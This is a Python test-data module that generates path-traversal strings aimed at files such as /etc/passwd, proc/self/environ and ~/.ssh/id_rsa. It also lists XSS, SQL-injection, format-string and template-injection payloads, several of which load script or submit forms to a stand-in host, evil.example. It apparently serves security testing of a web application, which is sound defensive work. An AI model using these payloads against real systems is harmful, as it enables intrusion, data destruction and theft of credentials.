"""Strings that have broken others: paths that lead out, and markup that runs."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

UPS = ("..", "%2e%2e", "%252e%252e", "..%00", "....", "%c0%ae%c0%ae", "．．", "..;")
CUTS = ("/", "\\", "%2f", "%5c", "%252f", "//", "%c0%af", "∕")
ENDS = ("etc/passwd", "windows\\win.ini", "limner.db", "queue.db", "proc/self/environ", "config.toml", "~/.ssh/id_rsa")
PATHS = (
    *(
        "/etc/passwd",
        "//etc/passwd",
        "/proc/self/fd/3",
        "~root",
        "~",
        ".",
        "..",
        "...",
        "/",
        "//",
        "\\\\",
        "%00",
        "%0a",
    ),
    *("C:\\Windows\\win.ini", "C:/Windows/win.ini", "\\\\server\\share", "\\\\?\\C:\\", "C:", "::$DATA"),
    *("file:///etc/passwd", "http://127.0.0.1/", "//evil.example/x", "sha256:../../x"),
)
WHOLE = (
    *PATHS,
    *("CON", "NUL", "aux.png", "0" * 13 + "/", "0" * 14 + "%00", "0" * 14 + "/../x", "0" * 14 + ".png"),
    *("' OR '1'='1", "1; DROP TABLE pictures", "%' OR 1=1--", "${7*7}", "{{7*7}}"),
    *("%s%s%s%n", "a" * 4_000, "🦊", "\u202e", "%ff%fe", "*", "?", "last", "@1", "000"),
)


def traversals() -> Iterator[str]:
    """Some five hundred of them, as they stand in a request line."""
    for up, cut, end in product(UPS, CUTS, ENDS):
        yield quote(f"{(up + cut) * 4}{end}", safe="/%;:~\\'(){}*")
    for each in WHOLE:
        yield quote(each, safe="/%;:~\\'(){}*")


MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>",
    "<xss onpointerenter=alert(1) style=display:block>",
    "'><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    '";alert(1);//',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "<div hx-get=/x hx-trigger=load hx-on:load=alert(1)>",
    "<div hx-on::after-request=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}{{ 7*7 }}",
)
